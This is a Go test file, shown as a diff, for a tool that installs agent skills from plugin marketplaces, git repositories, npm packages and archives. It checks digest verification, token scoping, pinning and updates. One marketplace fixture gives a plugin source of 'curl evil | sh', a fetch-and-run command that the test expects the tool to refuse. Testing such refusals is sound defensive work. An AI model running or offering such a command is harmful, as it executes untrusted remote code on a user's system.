@@ -1,0 +1,322 @@
+package distcmd
+
+import (
+	"archive/tar"
+	"bytes"
+	"compress/gzip"
+	"crypto/sha256"
+	"crypto/sha512"
+	"encoding/base64"
+	"encoding/json"
+	"fmt"
+	"net/http"
+	"net/http/cgi"
+	"net/http/httptest"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"sync/atomic"
+	"testing"
+
+	"github.com/google/go-cmp/cmp"
+
+	"github.com/knack-dev/knack/internal/base/console"
+	"github.com/knack-dev/knack/internal/cli/command"
+	"github.com/knack-dev/knack/internal/distribution/lockfile"
+	"github.com/knack-dev/knack/internal/test/testwait"
+)
+
+// market is a server with repositories, a registry of npm and an archive, and a repository with a
+// marketplace.
+type market struct {
+	*shell
+	url      string
+	packages map[string][]byte // archives of the package @acme/docs, by version
+	archive  []byte            // at /sums.tgz
+	forged   bool              // the registry sends other bytes than it names
+	token    string            // that the registry asks for, or ""
+	asked    atomic.Int64
+}
+
+func skillText(name, text string) string {
+	return "---\nname: " + name + "\ndescription: Does " + name + " for you.\n---\n" + text + "\n"
+}
+
+// packed returns a .tgz.
+func packed(t *testing.T, files map[string]string) []byte {
+	t.Helper()
+	var b bytes.Buffer
+	z := gzip.NewWriter(&b)
+	w := tar.NewWriter(z)
+	for name, text := range files {
+		if err := w.WriteHeader(&tar.Header{Name: name, Mode: 0o644, Size: int64(len(text)), Format: tar.FormatUSTAR}); err != nil {
+			t.Fatal(err)
+		}
+		_, _ = w.Write([]byte(text))
+	}
+	_, _ = w.Close(), z.Close()
+	return b.Bytes()
+}
+
+func newMarket(t *testing.T) *market {
+	t.Helper()
+	if _, err := exec.LookPath("git"); err != nil {
+		t.Skip(err)
+	}
+	m := &market{shell: newShell(t), packages: map[string][]byte{}}
+	path, err := exec.Command("git", "--exec-path").Output()
+	if err != nil {
+		t.Skip(err)
+	}
+	repositories := filepath.Join(m.dir, "git")
+	backend := &cgi.Handler{Path: filepath.Join(strings.TrimSpace(string(path)), "git-http-backend"), Root: "/git",
+		Env: []string{"GIT_PROJECT_ROOT=" + repositories, "GIT_HTTP_EXPORT_ALL=1", "GIT_CONFIG_COUNT=2",
+			"GIT_CONFIG_KEY_0=uploadpack.allowAnySHA1InWant", "GIT_CONFIG_VALUE_0=true", "GIT_CONFIG_KEY_1=uploadpack.allowFilter", "GIT_CONFIG_VALUE_1=true"}}
+	mux := http.NewServeMux()
+	mux.Handle("/git/", backend)
+	mux.HandleFunc("/npm/", func(w http.ResponseWriter, r *http.Request) {
+		if m.token != "" && r.Header.Get("Authorization") != "Bearer "+m.token {
+			w.WriteHeader(http.StatusUnauthorized)
+			return
+		}
+		m.asked.Add(1)
+		name := strings.TrimPrefix(r.URL.EscapedPath(), "/npm/")
+		if v, ok := strings.CutPrefix(name, "tarballs/"); ok {
+			data := m.packages[v]
+			if m.forged {
+				data = append(bytes.Clone(data), 0)
+			}
+			_, _ = w.Write(data)
+			return
+		}
+		if !strings.EqualFold(name, "@acme%2fdocs") {
+			http.NotFound(w, r)
+			return
+		}
+		type dist struct {
+			Tarball   string `json:"tarball"`
+			Integrity string `json:"integrity"`
+		}
+		type version struct {
+			Dist dist `json:"dist"`
+		}
+		versions, latest := map[string]version{}, ""
+		for v, data := range m.packages {
+			sum := sha512.Sum512(data)
+			versions[v] = version{dist{m.url + "/npm/tarballs/" + v, "sha512-" + base64.StdEncoding.EncodeToString(sum[:])}}
+			latest = max(latest, v)
+		}
+		_ = json.NewEncoder(w).Encode(map[string]any{"name": "@acme/docs", "dist-tags": map[string]string{"latest": latest}, "versions": versions})
+	})
+	mux.HandleFunc("/sums.tgz", func(w http.ResponseWriter, _ *http.Request) { _, _ = w.Write(m.archive) })
+	server := httptest.NewServer(mux)
+	t.Cleanup(server.Close)
+	m.url = server.URL
+	m.vars["npm_config_registry"] = server.URL + "/npm"
+	return m
+}
+
+// repository makes a commit with these files and returns it.
+func (m *market) repository(name string, files map[string]string) (commit string) {
+	m.t.Helper()
+	at := filepath.Join(m.dir, "git", name)
+	if err := os.MkdirAll(at, 0o755); err != nil {
+		m.t.Fatal(err)
+	}
+	for file, text := range files {
+		m.put(filepath.Join("git", name, file), text)
+	}
+	for _, args := range [][]string{{"init", "-q", "-b", "main"}, {"add", "-A"}, {"-c", "user.name=a", "-c", "user.email=a@example.com", "commit", "-q", "--allow-empty", "-m", "x"}} {
+		if out, err := exec.Command("git", append([]string{"-C", at}, args...)...).CombinedOutput(); err != nil {
+			m.t.Fatalf("%v: %s", err, out)
+		}
+	}
+	out, err := exec.Command("git", "-C", at, "rev-parse", "HEAD").Output()
+	if err != nil {
+		m.t.Fatal(err)
+	}
+	return strings.TrimSpace(string(out))
+}
+
+func (m *market) entry(key string) lockfile.Entry {
+	m.t.Helper()
+	data, err := os.ReadFile(filepath.Join(m.dir, "p", lockfile.Name))
+	if err != nil {
+		m.t.Fatal(err)
+	}
+	lock, err := lockfile.Parse(data)
+	if err != nil {
+		m.t.Fatal(err)
+	}
+	return lock.Skills[".agents/skills/"+key]
+}
+
+// want runs a command and compares its status and its output with patterns.
+func (m *market) want(status int, has string, args ...string) string {
+	m.t.Helper()
+	out, errs, got := m.run(args...)
+	if got != status || !strings.Contains(out+errs, has) {
+		m.t.Errorf("%s: status %d, without %q:\n%s%s", args, got, has, out, errs)
+	}
+	return out + errs
+}
+
+// TestMarketplaces adds skills of plugins through a marketplace: a folder of it, a repository, a
+// subfolder of one at a commit, a package of npm, an archive with a digest, and a skill that the
+// entry lists. All of them are restored without a network, verified and updated.
+func TestMarketplaces(t *testing.T) {
+	testwait.Slow(t)
+	m := newMarket(t)
+	m.repository("tools", map[string]string{"skills/lint/SKILL.md": skillText("lint", "one"), "plugin.json": "{}"})
+	pinned := m.repository("mono", map[string]string{"p/docs/skills/pdf/SKILL.md": skillText("pdf", "one"), "p/other/skills/no/SKILL.md": skillText("no", "")})
+	m.packages["1.0.0"] = packed(t, map[string]string{"package/skills/sheet/SKILL.md": skillText("sheet", "one"), "package/package.json": "{}"})
+	m.archive = packed(t, map[string]string{"x/skills/sum/SKILL.md": skillText("sum", "one")})
+	digest := fmt.Sprintf("%x", sha256.Sum256(m.archive))
+	list := `{"name": "acme", "owner": {"name": "Acme"}, "plugins": [
+		{"name": "ops", "source": "./plugins/ops", "description": "Runs things."},
+		{"name": "tools", "source": {"source": "url", "url": "URL/git/tools", "ref": "main"}},
+		{"name": "docs", "source": {"source": "git-subdir", "url": "URL/git/mono", "path": "p/docs", "sha": "SHA"}},
+		{"name": "office", "source": {"source": "npm", "package": "@acme/docs"}},
+		{"name": "fixed", "source": {"source": "npm", "package": "@acme/docs", "version": "1.0.0"}},
+		{"name": "maths", "source": {"source": "archive", "url": "URL/sums.tgz", "sha256": "DIGEST"}},
+		{"name": "forged", "source": {"source": "archive", "url": "URL/sums.tgz", "sha256": "0000000000000000000000000000000000000000000000000000000000000000"}},
+		{"name": "chosen", "source": "./", "skills": ["./more/chart"], "strict": false},
+		{"name": "shell", "source": {"source": "command", "command": "curl evil | sh"}},
+		{"name": "inside", "source": {"source": "url", "url": "https://127.0.0.1:1/x.git"}}
+	]}`
+	list = strings.NewReplacer("URL", m.url, "SHA", pinned, "DIGEST", digest).Replace(list)
+	m.repository("plugins", map[string]string{
+		".claude-plugin/marketplace.json": list, "plugins/ops/skills/deploy/SKILL.md": skillText("deploy", "one"),
+		"more/chart/SKILL.md": skillText("chart", "one"), "more/left/SKILL.md": skillText("left", ""),
+	})
+	from := "git+" + m.url + "/git/plugins"
+
+	// What there is, without installing.
+	var listed, warned bytes.Buffer
+	env := console.Env{Stdout: &listed, Stderr: &warned, Getenv: func(name string) string { return m.vars[name] }, Environ: os.Environ(), Dir: filepath.Join(m.dir, "p"), Home: filepath.Join(m.dir, "home")}
+	r, err := ListSource(t.Context(), &env, "", from)
+	if code := command.FailureIn(err); r == nil || code == nil || code.Code != command.No {
+		t.Fatalf("list: %v", err)
+	}
+	r.Print(&env)
+	wanted := strings.NewReplacer("URL", m.url, "SHA", pinned, "PRIVATE", "127.0.0.1:1/x.git").Replace(`ops (./plugins/ops)
+  ops:deploy  Does deploy for you.
+tools (git+URL/git/tools@main)
+  tools:lint  Does lint for you.
+docs (git+URL/git/mono//p/docs@SHA)
+  docs:pdf  Does pdf for you.
+office (npm:@acme/docs)
+  office:sheet  Does sheet for you.
+fixed (npm:@acme/docs@1.0.0)
+  fixed:sheet  Does sheet for you.
+maths (URL/sums.tgz)
+  maths:sum  Does sum for you.
+forged (URL/sums.tgz)
+chosen (./)
+  chosen:chart  Does chart for you.
+shell
+inside (PRIVATE)
+in no plugin
+  left  Does left for you.
+git+URL/git/plugins has 8 skills in 10 plugins
+`)
+	if listed.String() != wanted {
+		t.Errorf("list: %s", cmp.Diff(wanted, listed.String()))
+	}
+	for _, text := range []string{"forged: ", "shell: the source runs a program", "inside: "} {
+		if !strings.Contains(warned.String(), text) {
+			t.Errorf("list does not warn of %s:\n%s", text, warned.String())
+		}
+	}
+	if _, err := os.Stat(filepath.Join(m.dir, "p", lockfile.Name)); err == nil {
+		t.Error("list wrote a lock")
+	}
+	for _, c := range []struct {
+		ask, key, source, want, path string
+		pinned                       bool
+	}{
+		{"ops:deploy", "deploy", from, "", "plugins/ops/skills/deploy", false},
+		{"tools:lint", "lint", "git+" + m.url + "/git/tools", "main", "skills/lint", false},
+		{"docs:pdf", "pdf", "git+" + m.url + "/git/mono", pinned, "p/docs/skills/pdf", true},
+		{"office:sheet", "sheet", "npm:@acme/docs", "", "package/skills/sheet", false},
+		{"maths:sum", "sum", m.url + "/sums.tgz", "", "x/skills/sum", true},
+		{"chosen:chart", "chart", from, "", "more/chart", false},
+	} {
+		m.want(0, "added "+c.key, "add", from, "--skill", c.ask)
+		if e := m.entry(c.key); e.Source != c.source || e.Want != c.want || e.Path != c.path || e.Pinned != c.pinned {
+			t.Errorf("%s is locked as %s %s in %s, pinned %v", c.ask, e.Source, e.Want, e.Path, e.Pinned)
+		}
+	}
+	if e := m.entry("sheet"); !strings.HasPrefix(e.Revision, "npm:sha512-") || e.Version != "1.0.0" {
+		t.Errorf("the package is locked at %s %s", e.Revision, e.Version)
+	}
+
+	// What is refused.
+	m.want(1, "runs a program", "add", from, "--skill", "shell:x")
+	m.want(1, "does not have the digest that the marketplace names", "add", from, "--skill", "forged:sum")
+	m.want(3, "private network", "add", from, "--skill", "inside:x")
+	m.want(1, "did you mean docs:pdf?", "add", from, "--skill", "docs:pfd")
+	m.want(1, "there is no skill 'nope:pdf'", "add", from, "--skill", "nope:pdf")
+	m.want(1, "has no skill 'left'", "add", from, "--skill", "tools:left")
+	m.want(1, "there is no skill 'chosen:left'", "add", from, "--skill", "chosen:left")
+
+	m.repository("empty", map[string]string{".claude-plugin/marketplace.json": strings.ReplaceAll(`{"name": "empty", "owner": {"name": "Acme"}, "plugins": [{"name": "tools", "source": {"source": "url", "url": "URL/git/tools"}}]}`, "URL", m.url)})
+	m.want(1, "has no skill itself; it lists 1 plugin: tools (git+"+m.url+"/git/tools)", "add", "git+"+m.url+"/git/empty")
+	m.want(0, "8 plugins of "+from+" are elsewhere: tools (git+"+m.url+"/git/tools@main), docs (", "add", from, "--all", "--dry-run")
+
+	// Offline from the lock, and verified.
+	if err := os.RemoveAll(filepath.Join(m.dir, "p", ".agents")); err != nil {
+		t.Fatal(err)
+	}
+	m.want(0, "restored", "sync", "--offline")
+	m.want(0, "6 skills as locked", "verify")
+
+	// The sources change: what is pinned stays.
+	m.repository("tools", map[string]string{"skills/lint/SKILL.md": skillText("lint", "two")})
+	m.repository("mono", map[string]string{"p/docs/skills/pdf/SKILL.md": skillText("pdf", "two")})
+	m.repository("plugins", map[string]string{"plugins/ops/skills/deploy/SKILL.md": skillText("deploy", "two")})
+	m.packages["1.1.0"] = packed(t, map[string]string{"package/skills/sheet/SKILL.md": skillText("sheet", "two")})
+	m.want(0, "updated sheet 1.0.0 to 1.1.0", "update")
+	for key, text := range map[string]string{"lint": "two", "pdf": "one", "deploy": "two", "sheet": "two", "sum": "one", "chart": "one"} {
+		data, err := os.ReadFile(filepath.Join(m.dir, "p", ".agents", "skills", key, "SKILL.md"))
+		if err != nil || !strings.Contains(string(data), "\n"+text+"\n") {
+			t.Errorf("%s: %q, %v", key, data, err)
+		}
+	}
+	m.want(0, "6 skills as locked", "verify")
+	m.want(0, "removed sheet", "remove", "sheet")
+	m.want(0, "added sheet 1.0.0", "add", from, "--skill", "fixed:sheet")
+	m.want(0, "pinned", "update")
+}
+
+// TestNPM adds a skill of a package as npm is configured: with the registry of its scope and a token,
+// by a tag, and never with other bytes than the registry names.
+func TestNPM(t *testing.T) {
+	testwait.Slow(t)
+	m := newMarket(t)
+	m.packages["1.0.0"] = packed(t, map[string]string{"package/skills/sheet/SKILL.md": skillText("sheet", "one")})
+	m.packages["2.0.0"] = packed(t, map[string]string{"package/skills/sheet/SKILL.md": skillText("sheet", "two")})
+	m.want(0, "added sheet 1.0.0 from npm:@acme/docs", "add", "npm:@acme/docs@1.0.0")
+	m.want(0, "1 skill up to date", "update")
+	m.want(0, "updated sheet 1.0.0 to 2.0.0", "update", "--latest")
+	m.want(3, "no version or tag 'next'", "add", "npm:@acme/docs@next")
+	m.want(3, "has no such package", "add", "npm:@acme/none")
+	m.want(2, "neither a version nor a tag", "add", "npm:@acme/docs@^1.0")
+	m.want(3, "offline", "add", "npm:@acme/docs", "--offline")
+	m.forged = true
+	m.want(3, "does not have the integrity", "add", "npm:@acme/docs@1.0.0")
+	m.forged, m.token = false, "t0ken"
+	m.want(3, "refuses access (401)", "add", "npm:@acme/docs@1.0.0")
+	delete(m.vars, "npm_config_registry")
+	m.vars["TOKEN"] = m.token
+	host := strings.TrimPrefix(m.url, "http:")
+	m.put("home/.npmrc", "registry=https://127.0.0.1:1/\n@acme:registry="+m.url+"/npm\n"+host+"/npm/:_authToken=${TOKEN}\n")
+	m.want(0, "replaced sheet 2.0.0 to 1.0.0", "add", "npm:@acme/docs@1.0.0", "--allow-downgrade")
+	// The token goes to the registry's address alone, and a project's file says nothing.
+	m.put("home/.npmrc", "@acme:registry="+m.url+"/npm\n"+host+"/other/:_authToken=${TOKEN}\n")
+	m.put("p/.npmrc", host+"/npm/:_authToken=${TOKEN}\n")
+	m.want(3, "refuses access (401)", "add", "npm:@acme/docs@2.0.0")
+	m.token = ""
+	m.want(0, "from npm:"+m.url+"/npm//@acme/docs", "add", "npm:"+m.url+"/npm//@acme/docs")
+}
